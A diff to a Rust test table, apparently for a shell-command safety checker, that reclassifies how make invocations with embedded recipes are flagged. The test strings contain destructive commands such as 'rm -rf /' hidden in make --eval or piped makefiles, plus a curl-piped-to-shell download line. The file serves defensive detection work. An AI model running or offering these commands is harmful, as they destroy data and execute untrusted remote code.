@@ -679,27 +679,44 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         Some("'system \"rm -rf /\"'"),
     ),
     ("node --eval='x'", FlagKind::DynamicCode, Some("--eval='x'")),
-    // makefile text given on the command line: its recipes are not read
+    // makefile text given on the command line: its recipes are code make runs, and what the
+    // reader cannot see through is flagged
     (
         "make --eval='x:;rm -rf /' x",
-        FlagKind::UnsupportedSyntax,
+        FlagKind::NestedShell,
         Some("--eval='x:;rm -rf /'"),
     ),
     (
         "make -E '$(shell rm -rf /)'",
-        FlagKind::UnsupportedSyntax,
+        FlagKind::NestedShell,
         Some("'$(shell rm -rf /)'"),
     ),
     (
         "make -f /dev/stdin <<< 'all:; rm -rf /'",
-        FlagKind::UnsupportedSyntax,
+        FlagKind::NestedShell,
         Some("-f"),
     ),
     (
         "echo 'all:; rm -rf /' | make -f -",
-        FlagKind::UnsupportedSyntax,
+        FlagKind::NestedShell,
         Some("-f"),
     ),
+    (
+        "make --eval='x:;$(RM) -rf /' x",
+        FlagKind::UnsupportedSyntax,
+        Some("--eval='x:;$(RM) -rf /'"),
+    ),
+    (
+        "make --eval='include evil.mk'",
+        FlagKind::UnsupportedSyntax,
+        Some("--eval='include evil.mk'"),
+    ),
+    (
+        "make --eval=\"$T\" x",
+        FlagKind::DynamicCode,
+        Some("--eval=\"$T\""),
+    ),
+    ("make -f - x", FlagKind::DynamicCode, Some("-f")),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
